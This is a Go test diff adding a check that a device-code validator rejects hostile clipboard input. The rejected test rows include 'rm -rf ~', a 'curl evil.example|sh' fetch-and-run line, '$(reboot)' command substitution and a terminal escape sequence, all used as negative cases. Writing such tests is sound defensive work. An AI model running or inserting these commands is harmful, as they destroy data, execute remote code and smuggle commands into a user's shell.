@@ -55,3 +55,27 @@ func TestAttackByText(t *testing.T) {
 		})
 	}
 }
+
+// TestAttackByClipboard: the server chooses the device code, which "login" copies to the
+// clipboard. A command is no code.
+func TestAttackByClipboard(t *testing.T) {
+	for _, row := range []struct {
+		code string
+		want bool
+	}{
+		{"WDJBMJHT", true},
+		{"ABCD-1234", true},
+		{"", false},
+		{"rm -rf ~", false},
+		{"curl evil.example|sh", false},
+		{"ABCD\n", false},
+		{"\x1b]0;x\a", false},
+		{"$(reboot)", false},
+		{"ÄÖÜ", false},
+		{strings.Repeat("A", 33), false},
+	} {
+		if got := looksLikeCode(row.code); got != row.want {
+			t.Errorf("%q looks like a code: %v", row.code, got)
+		}
+	}
+}
